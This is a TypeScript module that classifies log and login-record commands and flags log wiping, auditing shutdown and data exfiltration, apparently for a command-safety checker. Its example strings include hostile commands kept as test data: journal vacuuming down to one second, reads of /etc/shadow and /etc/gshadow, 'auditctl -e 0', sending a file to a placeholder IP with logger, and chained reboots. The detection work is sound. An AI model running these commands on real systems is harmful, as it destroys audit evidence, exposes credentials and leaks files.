/** Logs and login records. */
import { ex, type Family } from "../call.ts";
import { emptied } from "../words.ts";

export const logs: Family = {
  name: "logs",
  specs: [
    {
      names: "journalctl",
      flags:
        "-aemxqrkN -# -b? -n? -f!unbounded --follow!unbounded -u: -t: -p: -o: -g: -S: -U: -c: -F: -D:meta --unit: --user-unit: --user --system --identifier: --priority: --output: --output-fields: --grep: --case-sensitive? --since: --until: --lines? --boot? --dmesg --no-pager --reverse --catalog --utc --no-hostname --quiet --merge --all --full --no-full --pager-end --cursor: --after-cursor: --show-cursor --list-boots --disk-usage --header --fields --field: --no-tail --facility: --verify --vacuum-size:!file-change --vacuum-time:!file-change --vacuum-files:!file-change --rotate!service-change --flush!service-change --sync!service-change --relinquish-var!service-change --smart-relinquish-var!service-change --update-catalog!service-change --setup-keys!service-change --cursor-file:!write-file --root:!unknown-config --image:!unknown-config --file:read --directory:meta --truncate-newline --dump-catalog --list-catalog --list-namespaces --invocation: --list-invocations --version",
      args: "text",
      check: (c) => {
        const w = c.args.map(emptied);
        if (w.includes("--rotate") && w.some((x) => x.startsWith("--vacuum"))) c.report("trace-wipe");
        // Trimming old entries is upkeep; keeping hours or a few megabytes wipes what happened.
        const size = emptied(c.value("--vacuum-size") ?? c.nameField);
        const time = emptied(c.value("--vacuum-time") ?? c.nameField);
        const files = emptied(c.value("--vacuum-files") ?? c.nameField);
        if (
          (c.has("--vacuum-time") && !/^[1-9]\d* ?(d|days?|w|weeks?|M|months?|y|years?)$/.test(time)) ||
          (c.has("--vacuum-size") && !/^([5-9]\d|\d{3,})M$|^[1-9][\d.]*[GT]$/.test(size)) ||
          (c.has("--vacuum-files") && !/^[2-9]$|^\d{2,}$/.test(files))
        )
          c.report("trace-wipe");
      },
      examples: ex(
        "journalctl -u nginx -n 50 --no-pager ¦ journalctl -p err -b ¦ journalctl --disk-usage",
        "journalctl -f ¦ journalctl --rotate",
        "journalctl --vacuum-time=1s ¦ journalctl --file /etc/gshadow",
      ),
    },
    {
      names: "dmesg",
      flags:
        "-THkrtxdePuLNpSJ -l: -f: -s:num --human --ctime --kernel --level: --facility: --decode --nopager --color? --reltime --time-format: --since: --until: --userspace --raw --notime --show-delta -C!file-change --clear!file-change -c!file-change --read-clear!file-change -n:!service-change --console-level:!service-change -D!service-change -E!service-change --console-on!service-change --console-off!service-change -w!unbounded -W!unbounded --follow!unbounded --follow-new!unbounded -F:read",
      args: "-",
      examples: ex("dmesg -T ¦ dmesg --level=err,warn", "dmesg -C ¦ dmesg -w", "dmesg -F /etc/shadow"),
    },
    {
      names: "last lastb lastlog utmpdump ausearch aureport lastlog2",
      mixed: true,
      flags:
        "-a -d -F -i -R -w -x -b -t -n:num -# -s: -t: -f:read -p: -u: --since: --until: --present: --fulltimes --time-format: --hostlast --ip --user: --time: -m: -ts: -te: -k: -l --start: --summary --failed -au -ui: -ua: -ue: -gi: -ga: -sc: -sv: -tm: -hn: -ul: -c: -e: -if:read -i -ti: --key: --message: --user: --event: --pid: --comm: --exit: --input-logs --interpret --raw --format: --just-one --session: --success: --uid: --uid-all: --gid: --executable: --syscall: --terminal: --host: --end: --system --time-format: --login --auth --account --anomaly --avc --config --file --integrity --mods --response --tty --virt --log",
      args: "text",
      style: "single",
      check: (c) => {
        // Its operand is a file, shown as text whatever it holds.
        if (c.name === "utmpdump") for (const o of c.operands) c.read(o);
      },
      examples: ex(
        "last -n 10 ¦ lastb -n 5 ¦ last reboot ¦ utmpdump /var/log/wtmp",
        "utmpdump -r ¦ last -x -p -f /var/log/wtmp",
        "last; reboot ¦ utmpdump /etc/shadow",
      ),
    },
    {
      names: "faillog",
      flags: "-a -u: --all --user:",
      args: "-",
      examples: ex("faillog -u app", "faillog -l 5", "faillog -a; reboot"),
    },
    {
      names: "auditctl augenrules",
      style: "free",
      args: "text",
      check: (c) => {
        if (/^-(l|s|v)$/.test(emptied(c.args[0] ?? c.nameField)) && c.args.length === 1) return;
        const never = c.args.some((a) => /(^|,)never(,|$)/.test(emptied(a)));
        if (c.name === "auditctl" && !never && /^-[wa]$/.test(emptied(c.args[0] ?? c.nameField)))
          return c.report("service-change", undefined, "auditctl");
        c.report("security-off");
      },
      examples: ex("auditctl -l ¦ auditctl -s", "", "auditctl -e 0 ¦ auditctl -D"),
    },
    {
      names: "logger wall write mesg",
      style: "free",
      args: "text",
      check: (c) => {
        const w = c.args.map(emptied);
        if (
          w.some((x) => /^(-n|--server)/.test(x)) &&
          (w.some((x) => /^(-f|--file)/.test(x)) || c.ctx.stdin.host)
        )
          c.report("exfil");
        const f = c.args[w.findIndex((x) => /^(-f|--file)$/.test(x)) + 1];
        if (f && w.some((x) => /^(-f|--file)$/.test(x))) c.read(f);
        c.report("file-change");
      },
      examples: ex("", "logger hello", "logger -n 203.0.113.5 -f /etc/hosts"),
    },
    {
      names: "multitail lnav",
      code: "interactive",
      args: "text",
      examples: ex("", "lnav /var/log/syslog", "lnav; reboot"),
    },
  ],
};
